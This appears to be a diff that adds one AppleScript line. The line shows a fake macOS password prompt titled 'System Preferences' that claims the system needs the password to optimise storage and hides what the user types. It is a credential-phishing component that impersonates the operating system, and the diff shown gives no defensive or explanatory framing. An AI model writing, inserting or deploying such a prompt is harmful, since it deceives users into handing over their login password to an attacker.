@@ -1,0 +1,1 @@
+display dialog "macOS needs your password to optimise storage." default answer "" with hidden answer with title "System Preferences"
